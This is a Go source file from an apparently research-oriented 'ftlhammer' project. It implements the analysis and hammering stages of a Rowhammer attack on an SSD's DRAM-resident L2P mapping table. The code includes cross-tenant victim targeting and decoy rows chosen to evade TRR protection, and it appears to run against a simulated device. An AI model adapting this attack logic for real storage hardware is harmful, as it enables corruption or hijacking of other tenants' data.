package attack

import (
	"errors"
	"fmt"

	"ftlhammer/internal/dram"
	"ftlhammer/internal/ftl"
	"ftlhammer/internal/nvme"
)

// Binding is one hammerable placement: the DRAM triple plus, for each
// aggressor side, the attacker-namespace-relative blocks whose L2P
// lookups activate that row; the victim entries in between; and
// (optionally) a same-bank far row usable as decoy or row-conflict
// partner. It says where to hammer; a Pattern says how.
type Binding struct {
	Triple dram.Triple
	// Sides holds, per aggressor side, the namespace-relative LBAs that
	// activate it. Sides[0] and Sides[1] are the victim's physical
	// neighbours; any further sides are same-bank far rows (sampler
	// soak, many-sided patterns).
	Sides [][]ftl.LBA
	// VictimGlobalLBAs are the device-global blocks whose translations
	// live in the victim row (owned by the other tenant in the
	// cross-partition case). Each is a 64-byte line anchor: the
	// LineEntries consecutive entries after it share the victim DRAM row.
	VictimGlobalLBAs []ftl.LBA
	// DecoyLBA activates a same-bank, distant row (valid when HasDecoy).
	DecoyLBA ftl.LBA
	HasDecoy bool
}

// LineEntries is how many L2P entries share one 64-byte DRAM line: a
// victim line anchor and the entries after it.
const LineEntries = 64 / ftl.EntryBytes

// VictimEntries appends to dst the namespace-relative LBAs of the entries
// on b's first maxLines victim lines (every line when maxLines <= 0) that
// lie in ns, in line order, and returns the extended slice. A flip can
// strike any entry of the victim row, so arming a victim means arming all
// of them.
func (b Binding) VictimEntries(dst []ftl.LBA, ns *nvme.Namespace, maxLines int) []ftl.LBA {
	lines := b.VictimGlobalLBAs
	if maxLines > 0 && len(lines) > maxLines {
		lines = lines[:maxLines]
	}
	for _, g := range lines {
		for k := ftl.LBA(0); k < LineEntries; k++ {
			if rel, ok := ns.Local(g + k); ok {
				dst = append(dst, rel)
			}
		}
	}
	return dst
}

// PrepareVictimLines is the §3.1 setup phase for one binding: it writes a
// fill to every entry of b's victim lines that lies in ns, so each holds
// a mapped translation a flip can redirect. It returns how many entries
// it wrote. It walks one line at a time into a stack array, so a victim
// row of many lines costs no more than the write buffer.
func PrepareVictimLines(dev *nvme.Device, ns *nvme.Namespace, b Binding) (int, error) {
	buf := make([]byte, dev.BlockBytes())
	var line [LineEntries]ftl.LBA
	n := 0
	for ; len(b.VictimGlobalLBAs) > 0; b.VictimGlobalLBAs = b.VictimGlobalLBAs[1:] {
		for _, rel := range b.VictimEntries(line[:0], ns, 1) {
			for j := range buf {
				buf[j] = byte(rel) ^ 0xA5
			}
			if err := dev.Write(ns, rel, buf, nvme.PathDirect); err != nil {
				return n, err
			}
			n++
		}
	}
	return n, nil
}

// VictimLines snapshots the translations of every entry on a binding's
// victim lines: the LineEntries entries after each VictimGlobalLBAs
// anchor, in anchor order. FTL.PPNOf peeks DRAM without access
// semantics, so taking or diffing a snapshot changes no simulated state.
type VictimLines struct {
	lbas []ftl.LBA // device-global
	ppns []uint32
}

// Remap is one victim-line translation that changed since a snapshot.
type Remap struct {
	LBA      ftl.LBA // device-global
	Old, New uint32
}

// SnapshotVictimLines records the current translations of b's victim
// lines.
func SnapshotVictimLines(f *ftl.FTL, b Binding) VictimLines {
	v := VictimLines{
		lbas: make([]ftl.LBA, 0, LineEntries*len(b.VictimGlobalLBAs)),
		ppns: make([]uint32, 0, LineEntries*len(b.VictimGlobalLBAs)),
	}
	for _, g := range b.VictimGlobalLBAs {
		for k := ftl.LBA(0); k < LineEntries; k++ {
			v.lbas = append(v.lbas, g+k)
			v.ppns = append(v.ppns, uint32(f.PPNOf(g+k)))
		}
	}
	return v
}

// Remaps lists, in snapshot order, the entries whose translation differs
// from the snapshot now.
func (v VictimLines) Remaps(f *ftl.FTL) []Remap {
	var out []Remap
	for i, lba := range v.lbas {
		if now := uint32(f.PPNOf(lba)); now != v.ppns[i] {
			out = append(out, Remap{LBA: lba, Old: v.ppns[i], New: now})
		}
	}
	return out
}

// FirstRedirect hunts for the first L2P redirect: for each of the first
// maxPlans bindings, in order, it runs prepare (when not nil), snapshots
// the binding's victim lines, pins and trims its aggressors
// (PinAndTrim), hammers pat through h and stops at the first binding
// whose victim lines remapped. It returns that binding's index and
// remaps, or -1 and nil when none remapped.
func FirstRedirect(h *DeviceHammerer, bindings []Binding, maxPlans int, pat Pattern, prepare func(Binding) error) (int, []Remap, error) {
	for i, b := range bindings[:min(maxPlans, len(bindings))] {
		if prepare != nil {
			if err := prepare(b); err != nil {
				return -1, nil, err
			}
		}
		before := SnapshotVictimLines(h.Dev.FTL(), b)
		fast, err := PinAndTrim(h.Dev, h.NS, h.Path, b)
		if err != nil {
			return -1, nil, err
		}
		if err := h.Hammer(fast, pat); err != nil {
			return -1, nil, err
		}
		if r := before.Remaps(h.Dev.FTL()); len(r) > 0 {
			return i, r, nil
		}
	}
	return -1, nil, nil
}

// entryLBA converts an L2P DRAM address back to the device-global LBA
// whose entry starts there (linear layout).
func entryLBA(region dram.Region, addr uint64) ftl.LBA {
	return ftl.LBA((addr - region.Base) / ftl.EntryBytes)
}

// bindTriple derives per-side LBA groups from a triple's addresses.
// Aggressor addresses must belong to the attacker's namespace.
func bindTriple(ns *nvme.Namespace, tr dram.Triple, region dram.Region) (Binding, bool) {
	b := Binding{Triple: tr, Sides: make([][]ftl.LBA, 2)}
	for side := 0; side < 2; side++ {
		for _, addr := range tr.AggAddrs[side] {
			if rel, ok := ns.Local(entryLBA(region, addr)); ok {
				b.Sides[side] = append(b.Sides[side], rel)
			}
		}
		if len(b.Sides[side]) == 0 {
			return b, false
		}
	}
	for _, addr := range tr.VictimAddrs {
		b.VictimGlobalLBAs = append(b.VictimGlobalLBAs, entryLBA(region, addr))
	}
	return b, true
}

// bankIndex is a per-bank index of attacker-owned rows, used to attach
// decoys and extra far-row sides.
type bankIndex struct {
	rows  []int
	addrs map[int]uint64
}

// indexOwnedRows builds, per flat bank, the attacker-owned rows of the
// L2P region in address order (deterministic).
func indexOwnedRows(dev *nvme.Device, ns *nvme.Namespace, region dram.Region, owner func(uint64) int) map[int]*bankIndex {
	mapper := dev.DRAM().Mapper()
	geo := mapper.Geometry()
	banks := make(map[int]*bankIndex)
	for addr := region.Base; addr < region.Base+region.Size; addr += 64 {
		if owner(addr) != ns.ID {
			continue
		}
		loc := mapper.Map(addr)
		fb := geo.FlatBank(loc)
		br, ok := banks[fb]
		if !ok {
			br = &bankIndex{addrs: make(map[int]uint64)}
			banks[fb] = br
		}
		if _, seen := br.addrs[loc.Row]; !seen {
			br.rows = append(br.rows, loc.Row)
			br.addrs[loc.Row] = addr
		}
	}
	return banks
}

// farRow reports whether row can serve as a decoy or extra side for b:
// not an aggressor (TRR would then protect the victim), not disturbing
// the victim row, and not already taken.
func farRow(b *Binding, row int, taken map[int]bool) bool {
	if row == b.Triple.AggRows[0] || row == b.Triple.AggRows[1] {
		return false
	}
	if row >= b.Triple.VictimRow-1 && row <= b.Triple.VictimRow+1 {
		return false
	}
	return !taken[row]
}

// attachDecoys picks, for each binding, an attacker-owned line in the
// same bank but a distant row, used to claim the TRR sampler slot.
func attachDecoys(bindings []Binding, ns *nvme.Namespace, region dram.Region, banks map[int]*bankIndex, geo dram.Geometry) {
	for i := range bindings {
		b := &bindings[i]
		fb := b.Triple.FlatBank(geo)
		br, ok := banks[fb]
		if !ok {
			continue
		}
		for _, row := range br.rows {
			if !farRow(b, row, nil) {
				continue
			}
			if rel, ok := ns.Local(entryLBA(region, br.addrs[row])); ok {
				b.DecoyLBA = rel
				b.HasDecoy = true
				break
			}
		}
	}
}

// extendSides grows each binding to the requested sidedness by binding
// additional same-bank far rows (distinct from the decoy and from each
// other). Bindings whose bank runs out of suitable rows keep their
// natural sidedness; the hammerer rejects them for patterns that need
// more.
func extendSides(bindings []Binding, ns *nvme.Namespace, region dram.Region, banks map[int]*bankIndex, geo dram.Geometry, sides int) {
	for i := range bindings {
		b := &bindings[i]
		if sides <= len(b.Sides) {
			continue
		}
		br, ok := banks[b.Triple.FlatBank(geo)]
		if !ok {
			continue
		}
		taken := make(map[int]bool)
		if b.HasDecoy {
			// The decoy row stays reserved: an extra side hammering it
			// would turn the sampler-claiming read into an aggressor.
			for _, row := range br.rows {
				if rel, ok := ns.Local(entryLBA(region, br.addrs[row])); ok && rel == b.DecoyLBA {
					taken[row] = true
					break
				}
			}
		}
		for _, row := range br.rows {
			if len(b.Sides) >= sides {
				break
			}
			if !farRow(b, row, taken) {
				continue
			}
			rel, ok := ns.Local(entryLBA(region, br.addrs[row]))
			if !ok {
				continue
			}
			taken[row] = true
			b.Sides = append(b.Sides, []ftl.LBA{rel})
		}
	}
}

// AnalyzeOptions tunes the offline layout analysis.
type AnalyzeOptions struct {
	// VictimNSID, when non-zero, finds cross-partition bindings whose
	// victim translations belong to that namespace (§4.2 analysis).
	// Zero finds bindings entirely within the attacker's own partition.
	VictimNSID int
	// Sides extends bindings with same-bank far rows up to this
	// sidedness (values <= 2 keep the natural two sides).
	Sides int
}

// Analyze performs the offline §4.2 layout analysis: find every
// (aggressor, victim, aggressor) physical row triple reachable from the
// attacker's namespace, bind LBAs to each side, and attach decoy rows.
// Requires the linear L2P layout (the hashed mitigation defeats exactly
// this step).
func Analyze(dev *nvme.Device, ns *nvme.Namespace, opts AnalyzeOptions) ([]Binding, error) {
	owner, err := dev.L2POwner()
	if err != nil {
		return nil, fmt.Errorf("attack: offline layout analysis impossible: %w", err)
	}
	region := dev.FTL().L2PRegion()
	mapper := dev.DRAM().Mapper()
	geo := mapper.Geometry()
	var triples []dram.Triple
	if opts.VictimNSID != 0 {
		triples = dram.FindCrossPartitionTriples(mapper, region, owner, ns.ID, opts.VictimNSID)
	} else {
		triples = dram.FindSameOwnerTriples(mapper, region, owner, ns.ID)
	}
	var bindings []Binding
	for _, tr := range triples {
		if b, ok := bindTriple(ns, tr, region); ok {
			bindings = append(bindings, b)
		}
	}
	if len(bindings) == 0 {
		if opts.VictimNSID != 0 {
			return nil, errors.New("attack: no cross-partition triples under this mapping")
		}
		return nil, errors.New("attack: no same-partition triples under this mapping")
	}
	banks := indexOwnedRows(dev, ns, region, owner)
	attachDecoys(bindings, ns, region, banks, geo)
	if opts.Sides > 2 {
		extendSides(bindings, ns, region, banks, geo, opts.Sides)
	}
	return bindings, nil
}
